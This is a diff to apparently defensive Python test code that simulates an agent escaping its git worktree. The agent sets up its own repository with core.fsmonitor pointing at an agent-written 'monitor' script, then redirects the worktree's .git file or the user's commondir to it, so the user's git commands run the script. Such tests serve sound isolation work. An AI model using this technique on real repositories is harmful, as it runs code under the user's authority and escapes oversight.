@@ -156,22 +156,24 @@ def others(attack: Attack) -> None:
     )
 
 
-def git_file(attack: Attack) -> None:
-    """The worktree's own .git file led to a repository of the agent's."""
+def _own_repository(attack: Attack) -> str:
+    """A repository of the agent's inside of its worktree, with a monitor."""
     own = attack.agent.at(f"{attack.agent.path}/own")
     attack.agent.git("init", "-q", "own")
     attack.script(f"{attack.agent.path}/monitor")
     own.git("config", "core.fsmonitor", f"{attack.agent.path}/monitor")
-    Path(attack.agent.path, ".git").write_text(f"gitdir: {own.path}/.git\n")
+    return f"{own.path}/.git"
+
+
+def git_file(attack: Attack) -> None:
+    """The worktree's own .git file led to a repository of the agent's."""
+    own = _own_repository(attack)
+    Path(attack.agent.path, ".git").write_text(f"gitdir: {own}\n")
 
 
 def common_dir(attack: Attack) -> None:
     """The worktree's administrative folder led to a repository of the agent's."""
-    own = attack.agent.at(f"{attack.agent.path}/own")
-    attack.agent.git("init", "-q", "own")
-    attack.script(f"{attack.agent.path}/monitor")
-    own.git("config", "core.fsmonitor", f"{attack.agent.path}/monitor")
-    Path(attack.user.common_dir, "worktrees/evil/commondir").write_text(f"{own.path}/.git\n")
+    Path(attack.user.common_dir, "worktrees/evil/commondir").write_text(f"{_own_repository(attack)}\n")
 
 
 def nested(attack: Attack) -> None:
